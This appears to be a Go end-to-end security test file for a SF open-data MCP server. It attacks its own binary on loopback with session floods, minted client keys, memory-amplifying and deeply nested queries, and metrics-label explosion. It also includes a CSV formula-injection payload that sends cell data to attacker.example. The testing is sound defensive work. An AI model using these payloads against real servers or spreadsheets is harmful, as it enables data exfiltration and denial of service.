//go:build e2e

package binary

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/datasf-mcp/datasf-mcp/socrata/socratatest"
)

// Attacks on the bounds, through the built binary on loopback: a client that
// mints identities (a new X-Datasf-Client-Key on every call) or amplifies
// (answers, nesting). Other clients come from other loopback addresses
// (127.0.0.2 …), which Linux routes to the same server: another address is
// another identity when there are no tokens.

// rawClient speaks MCP's JSON-RPC over Streamable HTTP from one loopback
// address, one request at a time, with the headers each call names.
type rawClient struct {
	t       *testing.T
	base    string
	hc      *http.Client
	session string
	mu      sync.Mutex
	nextID  int
}

// newRawClient returns a client of the instance at base connecting from
// the loopback address from.
func newRawClient(t *testing.T, base, from string) *rawClient {
	tr := http.DefaultTransport.(*http.Transport).Clone()
	tr.DialContext = (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}).DialContext
	tr.MaxIdleConnsPerHost = 4
	t.Cleanup(tr.CloseIdleConnections)
	return &rawClient{t: t, base: base, hc: &http.Client{Transport: tr, Timeout: 2 * time.Minute}}
}

// rpcAnswer is one HTTP exchange of a rawClient.
type rpcAnswer struct {
	status  int
	session string
	body    []byte
	result  json.RawMessage // the JSON-RPC result, when there is one
}

// post sends one JSON-RPC request with headers (and the client's session,
// once it has one) and reads the answer, JSON or an event stream; it
// fails the test on a transport error.
func (c *rawClient) post(headers map[string]string, method string, params any) rpcAnswer {
	c.t.Helper()
	a, err := c.tryPost(headers, method, params)
	if err != nil {
		c.t.Fatal(err)
	}
	return a
}

// tryPost is post returning the transport's error; it may run in any
// goroutine.
func (c *rawClient) tryPost(headers map[string]string, method string, params any) (rpcAnswer, error) {
	c.mu.Lock()
	c.nextID++
	id := c.nextID
	c.mu.Unlock()
	body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": id, "method": method, "params": params})
	req, _ := http.NewRequestWithContext(c.t.Context(), http.MethodPost, c.base+"/mcp", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	req.Header.Set("MCP-Protocol-Version", "2025-06-18")
	if c.session != "" && method != "initialize" {
		req.Header.Set("Mcp-Session-Id", c.session)
	}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		return rpcAnswer{}, fmt.Errorf("%s: %w", method, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		return rpcAnswer{}, fmt.Errorf("%s: reading the answer: %w", method, err)
	}
	a := rpcAnswer{status: resp.StatusCode, session: resp.Header.Get("Mcp-Session-Id"), body: b}
	msg := b
	if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/event-stream") {
		for _, line := range strings.Split(string(b), "\n") {
			if data, ok := strings.CutPrefix(line, "data:"); ok && strings.Contains(data, `"result"`) {
				msg = []byte(strings.TrimSpace(data))
			}
		}
	}
	var m struct {
		Result json.RawMessage `json:"result"`
	}
	if json.Unmarshal(msg, &m) == nil {
		a.result = m.Result
	}
	return a, nil
}

// initialize starts a session with headers; the client keeps it.
func (c *rawClient) initialize(headers map[string]string) rpcAnswer {
	c.t.Helper()
	a := c.post(headers, "initialize", map[string]any{"protocolVersion": "2025-06-18", "capabilities": map[string]any{},
		"clientInfo": map[string]any{"name": "hostile-test", "version": "1"}})
	if a.status == http.StatusOK {
		c.session = a.session
	}
	return a
}

// toolAnswer is what a tools/call answered.
type toolAnswer struct {
	IsError           bool            `json:"isError"`
	StructuredContent json.RawMessage `json:"structuredContent"`
	Content           []struct {
		Text string `json:"text"`
	} `json:"content"`
}

// call calls tool in the client's session with headers; it fails the
// test when there is no tool answer.
func (c *rawClient) call(headers map[string]string, tool string, args map[string]any) toolAnswer {
	c.t.Helper()
	res, err := c.tryCall(headers, tool, args)
	if err != nil {
		c.t.Fatal(err)
	}
	return res
}

// tryCall is call returning what went wrong; it may run in any goroutine.
func (c *rawClient) tryCall(headers map[string]string, tool string, args map[string]any) (toolAnswer, error) {
	a, err := c.tryPost(headers, "tools/call", map[string]any{"name": tool, "arguments": args})
	var res toolAnswer
	if err == nil && (a.status != http.StatusOK || json.Unmarshal(a.result, &res) != nil) {
		err = fmt.Errorf("%s: HTTP %d %.300s", tool, a.status, a.body)
	}
	return res, err
}

// text is the answer's first text.
func (a toolAnswer) text() string {
	if len(a.Content) == 0 {
		return ""
	}
	return a.Content[0].Text
}

// resourceURL is the link of a query_datasf answer.
func (a toolAnswer) resourceURL(t *testing.T) string {
	t.Helper()
	var sc struct {
		Resource struct {
			URL string `json:"url"`
		} `json:"resource"`
	}
	if err := json.Unmarshal(a.StructuredContent, &sc); err != nil || sc.Resource.URL == "" {
		t.Fatalf("no resource url in %.300s (isError %v: %.300s)", a.StructuredContent, a.IsError, a.text())
	}
	return sc.Resource.URL
}

// mintedKey is a new client key, as an attacker sends on every call.
func mintedKey() map[string]string {
	return map[string]string{"X-Datasf-Client-Key": "minted-" + rand.Text()}
}

// httpStatus sends method to url and returns the status.
func httpStatus(t *testing.T, hc *http.Client, method, url string) int {
	t.Helper()
	req, _ := http.NewRequestWithContext(t.Context(), method, url, nil)
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// alive fails the test unless the instance still answers /healthz.
func (i *instance) alive(t *testing.T) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, i.base+"/healthz", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("the server is not alive after the attack: %v\nstderr: %s", err, i.stderr)
	}
	resp.Body.Close()
}

// metricValue reads one unlabelled series of the instance's /metrics.
func (i *instance) metricValue(t *testing.T, name string) float64 {
	t.Helper()
	resp, err := http.Get(i.base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, name+" "); ok {
			var f float64
			if _, err := fmt.Sscan(v, &f); err == nil {
				return f
			}
		}
	}
	t.Fatalf("no %s in /metrics (HTTP %d)", name, resp.StatusCode)
	return 0
}

// storeQuery makes one result with query_datasf in c's session under
// headers and returns its link.
func storeQuery(t *testing.T, c *rawClient, headers map[string]string, n int) string {
	t.Helper()
	return c.call(headers, "query_datasf", map[string]any{"dataset_id": "rqzj-sfat",
		"soql": fmt.Sprintf("SELECT applicant LIMIT %d", 1+n%50)}).resourceURL(t)
}

// TestPinsUnderMintedKeysBinary: pins under a new client key each count
// against their address's pin quota, and pins count against the store's
// bound (at most half of it pinned, past it 409): 1,200 pins under new
// keys from one address, then 800 more from 8 other addresses, leave the
// store within its bound. The 12,000 pins against the default
// bound of 10,000 are here 1,200 against --max-results 1000, the same
// ratio. The failure this guards against: every pin under a new key was accepted, past the bound.
func TestPinsUnderMintedKeysBinary(t *testing.T) {
	t.Parallel()
	const bound = 1_000
	inst := startInstance(t, "--max-results", fmt.Sprint(bound))
	pin := func(from string, n int) (pinned, refused int) {
		c := newRawClient(t, inst.base, from)
		if a := c.initialize(nil); a.status != http.StatusOK {
			t.Fatalf("initialize from %s = %d %s", from, a.status, a.body)
		}
		for i := range n {
			switch st := httpStatus(t, c.hc, http.MethodPut, storeQuery(t, c, mintedKey(), i)); st {
			case http.StatusOK:
				pinned++
			case http.StatusConflict:
				refused++
			default:
				t.Fatalf("PUT (pin) from %s = %d; want 200 or 409", from, st)
			}
		}
		return pinned, refused
	}
	pinned, refused := pin("127.0.0.1", 1_200)
	stored := inst.metricValue(t, "datasf_stored_results")
	t.Logf("1,200 pins under new client keys from one address: %d pinned, %d refused (409); stored results %.0f (bound %d)", pinned, refused, stored, bound)
	if pinned != 100 || stored > bound {
		t.Errorf("1,200 pins under new keys from one address: %d pinned, %.0f stored; want 100 (the address's quota), at most %d stored", pinned, stored, bound)
	}
	total := pinned
	for a := range 8 {
		p, _ := pin(fmt.Sprintf("127.0.0.%d", 2+a), 100)
		total += p
	}
	stored = inst.metricValue(t, "datasf_stored_results")
	t.Logf("then 800 pins from 8 other addresses: %d pinned in all; stored results %.0f (bound %d)", total, stored, bound)
	if total != bound/2 || stored > bound {
		t.Errorf("2,000 pins from 9 addresses: %d pinned, %.0f stored; want %d (half the store), at most %d stored", total, stored, bound/2, bound)
	}
	inst.alive(t)
}

// TestVictimResultsSurviveMintedKeysBinary: a client making results under
// a new client key each evicts its own results, never another client's: a
// victim's 5 results (another address) survive 1,040 results made under
// new keys in one session. The 10,400 results against the default
// bound of 10,000 are here 1,040 against --max-results 1000. The failure this guards against: the
// store evicted from "the owner holding the most", the victim.
func TestVictimResultsSurviveMintedKeysBinary(t *testing.T) {
	t.Parallel()
	const bound = 1_000
	inst := startInstance(t, "--max-results", fmt.Sprint(bound))
	victim := newRawClient(t, inst.base, "127.0.0.2")
	key := map[string]string{"X-Datasf-Client-Key": "victim-" + rand.Text()}
	if a := victim.initialize(key); a.status != http.StatusOK {
		t.Fatalf("victim initialize = %d %s", a.status, a.body)
	}
	var mine []string
	for i := range 5 {
		mine = append(mine, storeQuery(t, victim, key, i))
	}
	attacker := newRawClient(t, inst.base, "127.0.0.1")
	if a := attacker.initialize(nil); a.status != http.StatusOK {
		t.Fatalf("attacker initialize = %d %s", a.status, a.body)
	}
	for i := range bound + bound/25 {
		storeQuery(t, attacker, mintedKey(), i)
	}
	var statuses []int
	kept := 0
	for _, url := range mine {
		st := httpStatus(t, victim.hc, http.MethodGet, url)
		statuses = append(statuses, st)
		if st == http.StatusOK {
			kept++
		}
	}
	stored := inst.metricValue(t, "datasf_stored_results")
	t.Logf("the victim's 5 results after %d results under new keys: GET %v; stored results %.0f (bound %d)", bound+bound/25, statuses, stored, bound)
	if kept != 5 || stored > bound {
		t.Errorf("the victim's results: %d of 5 kept (GET %v), %.0f stored; want 5 kept, at most %d stored", kept, statuses, stored, bound)
	}
}

// TestSessionFloodBinary: after 1,000 initialize from one client, another
// client key of the same address, and another address, still open a
// session; the flooder's next initialize is refused (429). The failure this guards against:
// every other local client got 429 for the 30-minute idle timeout.
func TestSessionFloodBinary(t *testing.T) {
	t.Parallel()
	inst := startInstance(t)
	flood := newRawClient(t, inst.base, "127.0.0.1")
	opened := 0
	for range 1_000 {
		if a := flood.initialize(nil); a.status == http.StatusOK {
			opened++
		}
	}
	next := flood.initialize(nil)
	sameAddr := newRawClient(t, inst.base, "127.0.0.1").initialize(map[string]string{"X-Datasf-Client-Key": "another-" + rand.Text()})
	otherAddr := newRawClient(t, inst.base, "127.0.0.2").initialize(nil)
	t.Logf("1,000 initialize from one client: %d sessions; its next initialize %d; another key of its address %d; another address %d; live sessions %.0f",
		opened, next.status, sameAddr.status, otherAddr.status, inst.metricValue(t, "datasf_sessions"))
	if next.status != http.StatusTooManyRequests || !bytes.Contains(next.body, []byte("too_many_sessions")) {
		t.Errorf("the flooder's initialize after 1,000 = %d %.200s; want 429 too_many_sessions", next.status, next.body)
	}
	if sameAddr.status != http.StatusOK || sameAddr.session == "" {
		t.Errorf("another client key of the flooding address: initialize = %d %.200s; want 200 and a session", sameAddr.status, sameAddr.body)
	}
	if otherAddr.status != http.StatusOK || otherAddr.session == "" {
		t.Errorf("another address: initialize = %d %.200s; want 200 and a session", otherAddr.status, otherAddr.body)
	}
}

// TestAmplifyingAnalysesBinary: 4 analyses at once (4 addresses), each
// answering blobs of zeros (six bytes of JSON a byte) under a 16,000-
// character column name repeated in every row, keep the server's peak RSS
// within 1 GiB, and it stays alive; each answer is cut, saying so. Issue
// 46: one such call peaked at 934 MiB, 4 at once at 4 GiB.
func TestAmplifyingAnalysesBinary(t *testing.T) {
	t.Parallel()
	inst := startInstance(t)
	owner := newRawClient(t, inst.base, "127.0.0.1")
	if a := owner.initialize(nil); a.status != http.StatusOK {
		t.Fatalf("initialize = %d %s", a.status, a.body)
	}
	url := owner.call(nil, "query_datasf", map[string]any{"dataset_id": "wg3w-h783", "soql": "SELECT incident_id LIMIT 1000"}).resourceURL(t)
	sql := `SELECT zeroblob(8000) AS "` + strings.Repeat("k", 16_000) + `" FROM t, (SELECT 1 UNION ALL SELECT 2 UNION ALL SELECT 3)`

	sampler := samplePeak(t, inst.cmd.Process.Pid)
	start := time.Now()
	answers := make([]toolAnswer, 4)
	var wg sync.WaitGroup
	for i := range answers {
		c := newRawClient(t, inst.base, fmt.Sprintf("127.0.0.%d", 1+i))
		if a := c.initialize(nil); a.status != http.StatusOK {
			t.Fatalf("initialize = %d %s", a.status, a.body)
		}
		wg.Go(func() {
			var err error
			if answers[i], err = c.tryCall(nil, "analyze_results", map[string]any{"sql": sql, "results": map[string]any{"t": url}}); err != nil {
				t.Errorf("analysis %d: %v", i, err)
			}
		})
	}
	wg.Wait()
	peak := sampler.end()
	inst.alive(t)
	t.Logf("4 amplifying analyze_results at once: server peak RSS %.1f MiB in %s; first answer %.120q",
		float64(peak)/(1<<20), time.Since(start).Round(time.Millisecond), answers[0].text())
	for i, a := range answers {
		var sc struct {
			Summary   string `json:"summary"`
			Truncated bool   `json:"truncated"`
		}
		_ = json.Unmarshal(a.StructuredContent, &sc)
		if a.IsError || !sc.Truncated || !strings.Contains(sc.Summary, "more were cut: at most 8 MiB") {
			t.Errorf("analysis %d: isError %v, %.300q, summary %q; want rows, cut, saying so", i, a.IsError, a.text(), sc.Summary)
		}
	}
	if peak > 1<<30 {
		t.Errorf("peak RSS during 4 amplifying analyses = %.1f MiB; want at most 1024 MiB", float64(peak)/(1<<20))
	}
}

// TestDeepNestingBinary: 16 query_datasf calls at once, each of 15,970
// '(', are answered "nested too deeply" with the server's peak RSS within
// 1 GiB, and it stays alive. The failure this guards against: ~200 MiB a call, 16 at once 2.2-2.5
// GiB.
func TestDeepNestingBinary(t *testing.T) {
	t.Parallel()
	inst := startInstance(t)
	soql := "SELECT " + strings.Repeat("(", 15_970) + "1"
	sampler := samplePeak(t, inst.cmd.Process.Pid)
	answers := make([]toolAnswer, 16)
	var wg sync.WaitGroup
	for i := range answers {
		c := newRawClient(t, inst.base, "127.0.0.1")
		if a := c.initialize(nil); a.status != http.StatusOK {
			t.Fatalf("initialize = %d %s", a.status, a.body)
		}
		wg.Go(func() {
			var err error
			if answers[i], err = c.tryCall(nil, "query_datasf", map[string]any{"dataset_id": "rqzj-sfat", "soql": soql}); err != nil {
				t.Errorf("query %d: %v", i, err)
			}
		})
	}
	wg.Wait()
	peak := sampler.end()
	inst.alive(t)
	t.Logf("16 query_datasf of 15,970 '(' at once: server peak RSS %.1f MiB; first answer %.200q", float64(peak)/(1<<20), answers[0].text())
	for i, a := range answers {
		if !a.IsError || !strings.Contains(a.text(), "nested too deeply") {
			t.Errorf("query %d: isError %v, %.300q; want an error saying nested too deeply", i, a.IsError, a.text())
		}
	}
	if peak > 1<<30 {
		t.Errorf("peak RSS during 16 deep queries = %.1f MiB; want at most 1024 MiB", float64(peak)/(1<<20))
	}
}

// TestSpillsApartBinary: with tokens A and B, B's spilled results never
// evict A's: A's spilled analysis is still read after B spills 1,001
// (past the store's 1,000). The failure this guards against: one pool, oldest out first, so B's
// spills evicted A's.
func TestSpillsApartBinary(t *testing.T) {
	t.Parallel()
	inst := startInstanceEnv(t, []string{"DATASF_REST_TOKEN=token-a-0123456789,token-b-0123456789"})
	bearer := func(token string) map[string]string { return map[string]string{"Authorization": "Bearer " + token} }
	spilled := func(c *rawClient, h map[string]string, table string) string {
		t.Helper()
		a := c.call(h, "analyze_results", map[string]any{"sql": "SELECT printf('%.*c', 200, 'x') AS v FROM t", "results": map[string]any{"t": table}})
		var sc struct {
			FullResult struct {
				URL string `json:"url"`
			} `json:"full_result"`
		}
		if err := json.Unmarshal(a.StructuredContent, &sc); err != nil || sc.FullResult.URL == "" {
			t.Fatalf("analyze_results was not spilled: %.300s", a.StructuredContent)
		}
		return sc.FullResult.URL
	}
	get := func(url, token string) int {
		req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, url+"?offset=0&limit=1", nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	a, b := newRawClient(t, inst.base, "127.0.0.1"), newRawClient(t, inst.base, "127.0.0.1")
	ha, hb := bearer("token-a-0123456789"), bearer("token-b-0123456789")
	a.initialize(ha)
	b.initialize(hb)
	query := map[string]any{"dataset_id": "rqzj-sfat", "soql": "SELECT applicant LIMIT 200"}
	aURL := spilled(a, ha, a.call(ha, "query_datasf", query).resourceURL(t))
	bTable := b.call(hb, "query_datasf", query).resourceURL(t)
	start := time.Now()
	var bURLs []string
	for range 1_001 {
		bURLs = append(bURLs, spilled(b, hb, bTable))
	}
	aStatus, bFirst, bLast := get(aURL, "token-a-0123456789"), get(bURLs[0], "token-b-0123456789"), get(bURLs[1_000], "token-b-0123456789")
	t.Logf("after token B spilled 1,001 results (%s): A's spilled result GET %d; B's first %d, B's last %d",
		time.Since(start).Round(time.Millisecond), aStatus, bFirst, bLast)
	if aStatus != http.StatusOK {
		t.Errorf("A's spilled result after B spilled 1,001: GET = %d; want 200", aStatus)
	}
	if bLast != http.StatusOK {
		t.Errorf("B's newest spilled result: GET = %d; want 200", bLast)
	}
}

// TestMetricsForTheOperatorBinary: with tokens, /metrics is the
// operator's: a tenant's token reads nothing (401) whether or not an
// operator token is set, the operator's token reads it. The failure this guards against: any
// token holder read every tenant's metrics.
func TestMetricsForTheOperatorBinary(t *testing.T) {
	t.Parallel()
	const tenant, operator = "tenant-token-0123456789", "operator-token-0123456789"
	scrape := func(inst *instance, token string) int {
		req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, inst.base+"/metrics", nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	closed := startInstanceEnv(t, []string{"DATASF_REST_TOKEN=" + tenant})
	open := startInstanceEnv(t, []string{"DATASF_REST_TOKEN=" + tenant, "DATASF_METRICS_TOKEN=" + operator})
	got := []int{scrape(closed, tenant), scrape(open, tenant), scrape(open, operator)}
	t.Logf("GET /metrics: tenant's token without an operator token %d, tenant's token %d, operator's token %d", got[0], got[1], got[2])
	if want := []int{http.StatusUnauthorized, http.StatusUnauthorized, http.StatusOK}; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("GET /metrics = %v; want %v", got, want)
	}
}

// TestCSVFormulasBinary: a CSV export neutralises text cells a
// spreadsheet would run as formulas (a leading '), and formulas=keep
// exports them as they are. The failure this guards against: cells starting with =, +, -, @ went
// out as they were.
func TestCSVFormulasBinary(t *testing.T) {
	t.Parallel()
	inst := startInstance(t)
	c := newRawClient(t, inst.base, "127.0.0.1")
	c.initialize(nil)
	table := c.call(nil, "query_datasf", map[string]any{"dataset_id": "rqzj-sfat", "soql": "SELECT applicant LIMIT 200"}).resourceURL(t)
	a := c.call(nil, "analyze_results", map[string]any{"results": map[string]any{"t": table},
		"sql": `SELECT '=HYPERLINK("http://attacker.example/?"&A1,"x")' AS v, '-122.41' AS lon, printf('%.*c', 200, 'x') AS pad FROM t`})
	var sc struct {
		FullResult struct {
			URL string `json:"url"`
		} `json:"full_result"`
	}
	if err := json.Unmarshal(a.StructuredContent, &sc); err != nil || sc.FullResult.URL == "" {
		t.Fatalf("analyze_results was not spilled: %.300s", a.StructuredContent)
	}
	read := func(query string) string {
		resp, err := http.Get(sc.FullResult.URL + "/export?" + query)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("export?%s = %d %.200s", query, resp.StatusCode, b)
		}
		return strings.SplitN(string(b), "\n", 3)[1]
	}
	safe := read("format=csv")
	if !strings.Contains(safe, `,"'=HYPERLINK(`) || !strings.HasPrefix(safe, "-122.41,") {
		t.Errorf("format=csv row = %q; want the formula cell prefixed with ' and the number as it is", safe)
	}
	kept := read("format=csv&formulas=keep")
	cell := func(row string) string {
		i := strings.Index(row, `"'=H`)
		if i < 0 {
			i = max(strings.Index(row, `"=H`), 0)
		}
		return row[i:]
	}
	t.Logf("a CSV export's formula cell: %q; with formulas=keep: %q", cell(safe), cell(kept))
	if !strings.Contains(kept, `,"=HYPERLINK(`) {
		t.Errorf("format=csv&formulas=keep row = %q; want the cell as it is", kept)
	}
}

// TestAnalysesPerAddressBinary: the bound of 2 analyses at once per caller
// holds per address, whatever client keys it sends: 4 analyses at once
// from one address under 4 keys run 2, and 2 are refused as busy. Issue
// 46: 4 sessions from one address ran 4 analyses at once.
func TestAnalysesPerAddressBinary(t *testing.T) {
	t.Parallel()
	inst := startInstance(t)
	owner := newRawClient(t, inst.base, "127.0.0.1")
	owner.initialize(nil)
	table := owner.call(nil, "query_datasf", map[string]any{"dataset_id": "rqzj-sfat", "soql": "SELECT applicant LIMIT 10"}).resourceURL(t)
	sql := "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 1000000) SELECT count(*) AS n FROM c, (SELECT count(*) FROM t)"
	answers := make([]toolAnswer, 4)
	var wg sync.WaitGroup
	for i := range answers {
		key := map[string]string{"X-Datasf-Client-Key": "caller-" + rand.Text()}
		c := newRawClient(t, inst.base, "127.0.0.1")
		c.initialize(key)
		wg.Go(func() {
			var err error
			if answers[i], err = c.tryCall(key, "analyze_results", map[string]any{"sql": sql, "results": map[string]any{"t": table}}); err != nil {
				t.Errorf("analysis %d: %v", i, err)
			}
		})
	}
	wg.Wait()
	ran, busy := 0, 0
	for _, a := range answers {
		switch {
		case !a.IsError:
			ran++
		case strings.Contains(a.text(), "analysis_busy"):
			busy++
		default:
			t.Errorf("analysis: %.300s; want rows or analysis_busy", a.text())
		}
	}
	t.Logf("4 analyses at once from one address under 4 client keys: %d ran, %d refused as busy", ran, busy)
	if ran != 2 || busy != 2 {
		t.Errorf("4 analyses at once from one address: %d ran, %d busy; want 2, 2", ran, busy)
	}
}

// TestMetricsPortalsBoundedBinary: get_schema on 5,000 distinct domains
// (every request goes to one fake through --base-url, each naming its
// portal in the Host header) leaves /metrics with a bounded number of
// portal labels and series. The failure this guards against: 141 → 150,111 series, never removed.
func TestMetricsPortalsBoundedBinary(t *testing.T) {
	t.Parallel()
	fake := socratatest.NewServer(t)
	inst := startServe(t, nil, "--base-url", fake.URL(), "--discovery-url", fake.URL(), "--log-level", "error")
	scrape := func() (series int, portals map[string]bool) {
		resp, err := http.Get(inst.base + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		portals = map[string]bool{}
		for _, line := range strings.Split(string(b), "\n") {
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			series++
			if _, rest, ok := strings.Cut(line, `portal="`); ok {
				portals[rest[:strings.IndexByte(rest, '"')]] = true
			}
		}
		return series, portals
	}
	c := newRawClient(t, inst.base, "127.0.0.1")
	c.initialize(nil)
	c.call(nil, "get_schema", map[string]any{"dataset_id": "abcd-1234"})
	before, _ := scrape()
	const domains, workers = 5_000, 8
	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := range workers {
		wg.Go(func() {
			for i := w; i < domains; i += workers {
				if _, err := c.tryCall(nil, "get_schema", map[string]any{"dataset_id": "abcd-1234", "domain": fmt.Sprintf("portal-%d.example.org", i)}); err != nil {
					errs <- err
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	inst.alive(t)
	after, portals := scrape()
	t.Logf("get_schema on 5,000 distinct domains through the binary: %d → %d series, %d portal labels", before, after, len(portals))
	// The configured portal, 20 others and "other"; a portal has at most
	// ~40 series (requests by endpoint and status, latencies, waits).
	if len(portals) > 22 || !portals["other"] || after > before+22*40 {
		t.Errorf("after 5,000 domains: %d series (from %d), %d portal labels (other: %v); want at most 22 labels and %d series",
			after, before, len(portals), portals["other"], before+22*40)
	}
}
